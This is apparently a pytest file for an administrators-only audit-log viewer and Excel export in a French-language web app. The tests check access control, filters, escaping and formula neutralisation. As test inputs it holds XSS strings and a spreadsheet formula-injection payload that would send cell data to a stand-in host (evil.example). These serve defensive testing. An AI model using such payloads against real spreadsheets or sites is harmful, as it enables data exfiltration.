"""The audit log's viewer: administrators only, newest first, filters named under their field
when wrong, pages of fifty, every entry read in French and escaped, the workbook of the filtered
entries (formulas kept as text, the export itself logged), and no way to change the log."""
from __future__ import annotations

import html
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook

from tests import audit, factories
from tests.querycount import count_queries
from trainings.audit.log import record
from trainings.audit.models import AuditEvent
from trainings.extensions import db
from trainings.models import Role

PAGE, EXPORT = "/admin/audit/", "/admin/audit/journal.xlsx"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def rows_on(response) -> list[str]:
    """The ids of the entries a page shows, in order."""
    return re.findall(r'<tr id="e(\d+)"', response.get_data(as_text=True))


@pytest.fixture
def admin(auth):
    return auth.as_role(Role.ADMIN)


# Who may read it ------------------------------------------------------------------------------

@pytest.mark.parametrize("url", [PAGE, EXPORT])
@pytest.mark.parametrize("role", [Role.EXPERT, Role.COORDINATOR, Role.OBSERVER])
def test_other_roles_are_refused(client, auth, role, url):
    auth.as_role(role, "oriental" if role == Role.COORDINATOR else None)
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [PAGE, EXPORT])
def test_anonymous_visitors_are_sent_to_the_login(client, url):
    response = client.get(url)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_the_admin_navigation_links_to_the_log_and_no_one_else_s(client, auth):
    auth.as_role(Role.ADMIN)
    assert f'href="{PAGE}"' in client.get("/admin/users/").get_data(as_text=True)
    client.post("/logout")
    auth.as_role(Role.EXPERT)
    assert f'href="{PAGE}"' not in client.get("/sessions/").get_data(as_text=True)


def test_no_route_changes_or_removes_an_entry(app):
    rules = [rule for rule in app.url_map.iter_rules() if rule.rule.startswith("/admin/audit")]
    assert rules and all(rule.methods <= {"GET", "HEAD", "OPTIONS"} for rule in rules)


# Reading it -----------------------------------------------------------------------------------

def test_entries_are_listed_newest_first_and_read_in_french(client, admin, clock):
    expert = factories.user(Role.EXPERT, name="Nadia Experte", email="nadia@example.org")
    session = factories.session()
    clock.set(date(2026, 12, 7), "09:05")
    first = record(AuditEvent.CHECK_IN_MANUAL, actor_id=expert.id, person_id=41,
                   session_id=session.id, details={"half_day_id": 3, "outside_window": False})
    clock.set(date(2026, 12, 7), "10:30")
    second = record(AuditEvent.DOWNLOAD, actor_id=expert.id, session_id=session.id,
                    details={"kind": "attendance-xlsx", "filename": "emargement.xlsx"})
    response = client.get(PAGE, query_string={"session": session.id})
    assert response.status_code == 200
    assert rows_on(response) == [str(second.id), str(first.id)]
    page = text(response)
    assert "07/12/2026 10:30:00" in page and "07/12/2026 09:05:00" in page  # Morocco's time
    assert "Téléchargement" in page and "Pointage manuel" in page
    assert "Nadia Experte (nadia@example.org)" in page
    assert "Feuille d'émargement (Excel)" in page and "emargement.xlsx" in page
    assert "Hors des heures" in page and "Non" in page
    assert f'href="/sessions/{session.id}"' in page and 'href="/participants/41"' in page


def test_an_account_acted_upon_and_a_removed_account_are_named(client, admin):
    target = factories.user(Role.COORDINATOR, "oriental", name="", email="coord@example.org")
    record(AuditEvent.ACCOUNT_CHANGED, actor_id=987654, account_id=target.id,
           details={"fields": ["role"]})
    page = text(client.get(PAGE, query_string={"event": "account-changed"}))
    assert "Compte modifié" in page and "coord@example.org" in page
    assert "Compte n° 987654" in page


def test_a_script_in_the_details_is_shown_as_text(client, admin):
    record(AuditEvent.IMPORT, actor_id=admin.id,
           details={"kind": "<script>alert(1)</script>", "<b>clé</b>": "<img src=x>"})
    raw = client.get(PAGE).get_data(as_text=True)
    assert "<script>alert(1)</script>" not in raw and "<img src=x>" not in raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in raw
    assert "&lt;b&gt;clé&lt;/b&gt;" in raw


# Filters --------------------------------------------------------------------------------------

@pytest.fixture
def three(admin, clock):
    """Three entries: two by an expert (7 and 9 December), one by a coordinator (8 December)."""
    expert = factories.user(Role.EXPERT)
    coordinator = factories.user(Role.COORDINATOR, "oriental")
    entries = {}
    for key, day, event, actor, session_id, person_id in [
            ("reset", 7, AuditEvent.TEST_RESET, expert, 5, 50),
            ("import", 8, AuditEvent.IMPORT, coordinator, 6, None),
            ("undo", 9, AuditEvent.CHECK_IN_UNDONE, expert, 6, 51)]:
        clock.set(date(2026, 12, day), "12:00")
        entries[key] = record(event, actor_id=actor.id, session_id=session_id,
                              person_id=person_id).id
    db.session.commit()
    return {"expert": expert, "coordinator": coordinator, **entries}


@pytest.mark.parametrize("query, expected", [
    ({"event": "test-reset"}, ["reset"]),
    ({"date_from": "2026-12-08"}, ["undo", "import"]),
    ({"date_to": "2026-12-08"}, ["import", "reset"]),
    ({"date_from": "2026-12-08", "date_to": "2026-12-08"}, ["import"]),
    ({"actor": "expert"}, ["undo", "reset"]),
    ({"session": "6"}, ["undo", "import"]),
    ({"person": "51"}, ["undo"]),
    ({"actor": "expert", "session": "6"}, ["undo"]),
])
def test_filters_select_the_entries(client, three, query, expected):
    query = {key: str(three[value].id) if key == "actor" else value
             for key, value in query.items()}
    response = client.get(PAGE, query_string=query)
    assert response.status_code == 200
    shown = [entry for entry in rows_on(response)
             if int(entry) in {three[k] for k in ("reset", "import", "undo")}]
    assert shown == [str(three[key]) for key in expected]


@pytest.mark.parametrize("query, field, message", [
    ({"date_from": "07/12/2026"}, "date_from", "Date invalide : écrivez-la AAAA-MM-JJ"),
    ({"date_to": "2026-13-01"}, "date_to", "Date invalide : écrivez-la AAAA-MM-JJ"),
    ({"date_from": "2026-12-09", "date_to": "2026-12-01"}, "date_to",
     "La date de fin précède la date de début."),
    ({"session": "douze"}, "session", "Indiquez un numéro"),
    ({"person": "99999999999999999999"}, "person", "Indiquez un numéro"),
    ({"actor": "<script>"}, "actor", "Choisissez un compte de la liste."),
    ({"event": "deleted-everything"}, "event", "Choisissez un événement de la liste."),
    ({"session": "1\x00"}, "session", "caractères de contrôle"),
])
def test_a_bad_filter_is_named_under_its_field(client, three, query, field, message):
    response = client.get(PAGE, query_string=query)
    assert response.status_code == 400
    page = text(response)
    field_html = page[page.index(f'name="{field}"'):]
    assert message in field_html[:field_html.index("</div>")]


def test_a_bad_filter_exports_nothing(client, three):
    response = client.get(EXPORT, query_string={"date_from": "hier"})
    assert response.status_code == 400 and "Date invalide" in text(response)
    assert audit.downloads() == []


# Pages ----------------------------------------------------------------------------------------

def test_fifty_entries_a_page_newest_first(client, admin, clock):
    ids = []
    for minute in range(53):
        clock.set(date(2026, 12, 7), f"09:{minute:02d}")
        ids.append(record(AuditEvent.TEST_RESET, actor_id=admin.id, session_id=77).id)
    first = client.get(PAGE, query_string={"session": "77"})
    second = client.get(PAGE, query_string={"session": "77", "page": "2"})
    assert rows_on(first) == [str(i) for i in reversed(ids[3:])]
    assert rows_on(second) == [str(i) for i in reversed(ids[:3])]
    assert "Page 1 sur 2" in text(first)
    assert "session=77" in first.get_data(as_text=True).split("Suivante")[0].rsplit("href", 1)[1]


def test_the_page_costs_the_same_queries_whatever_the_log_holds(client, admin):
    def queries(entries: int) -> int:
        for n in range(entries):
            user = factories.user(Role.EXPERT)
            record(AuditEvent.DOWNLOAD, actor_id=user.id, account_id=user.id, session_id=n,
                   person_id=n, details={"kind": "attendance-xlsx", "filename": f"{n}.xlsx"})
        db.session.commit()
        with count_queries() as statements:
            assert client.get(PAGE).status_code == 200
        return len(statements)

    assert queries(3) == queries(60)


# The workbook ---------------------------------------------------------------------------------

def test_the_workbook_holds_the_filtered_entries_with_formulas_as_text(client, admin, clock):
    clock.set(date(2026, 12, 7), "09:00")
    kept = record(AuditEvent.IMPORT, actor_id=admin.id, session_id=12,
                  details={"kind": "roster", "rows": 2, "note": HOSTILE + "\x01"})
    record(AuditEvent.IMPORT, actor_id=admin.id, session_id=13, details={"kind": "roster"})
    db.session.commit()
    response = client.get(EXPORT, query_string={"session": "12"})
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["Journal"]
    lines = list(sheet.iter_rows(values_only=True))
    assert lines[0][:3] == ("N°", "Date et heure", "Événement")
    body = [line for line in lines[1:] if line[0] is not None]
    assert [line[0] for line in body] == [kept.id]
    details = body[0][7]
    assert "Type : Liste d'inscription" in details and "Lignes du fichier : 2" in details
    assert HOSTILE in details and "\x01" not in details
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"


def test_a_formula_at_the_start_of_a_cell_stays_text(client, admin):
    actor = factories.user(Role.EXPERT, name=HOSTILE, email="formule@example.org")
    record(AuditEvent.LOGOUT, actor_id=actor.id)
    db.session.commit()
    book = load_workbook(io.BytesIO(client.get(EXPORT, query_string={"event": "logout"}).data))
    cell = book["Journal"]["D2"]
    assert cell.value == f"{HOSTILE} (formule@example.org)"
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_export_is_logged_as_a_download(client, admin):
    record(AuditEvent.TEST_RESET, actor_id=admin.id, session_id=9)
    db.session.commit()
    response = client.get(EXPORT, query_string={"session": "9", "date_from": "2026-01-01"})
    assert response.status_code == 200
    log = audit.download()
    assert (log.user_id, log.kind, log.filename) == (
        admin.id, "audit-log-xlsx", "journal-audit_2026-01-01_fin.xlsx")
    assert log.details == {"session_id": 9, "date_from": "2026-01-01", "entries": 1}


def test_arabic_with_digits_and_a_long_text_survive_the_page_and_the_workbook(client, admin):
    arabic, long_text = "فاطمة الزهراء 2026 ورشة 3", "x" * 10_000
    record(AuditEvent.IMPORT, actor_id=admin.id, session_id=31,
           details={"kind": "roster", "arabic": arabic, "long": long_text})
    db.session.commit()
    page = client.get(PAGE, query_string={"session": "31"})
    assert page.status_code == 200
    assert arabic in text(page) and long_text in text(page)
    book = load_workbook(io.BytesIO(client.get(EXPORT, query_string={"session": "31"}).data))
    details = book["Journal"]["H2"].value
    assert f"arabic : {arabic}" in details and f"long : {long_text}" in details


def test_a_merge_is_read_in_french(client, admin):
    record(AuditEvent.PERSON_MERGED, actor_id=admin.id, person_id=4,
           details={"removed_id": 5, "merge_id": 1, "moved": {"check_ins": 2},
                    "fields": ["phone", "consent_at"]})
    page = text(client.get(PAGE, query_string={"person": "4"}))
    assert "Fiches fusionnées" in page and "Fiche supprimée n°" in page
    assert "Émargements : 2" in page and "Téléphone, Consentement" in page
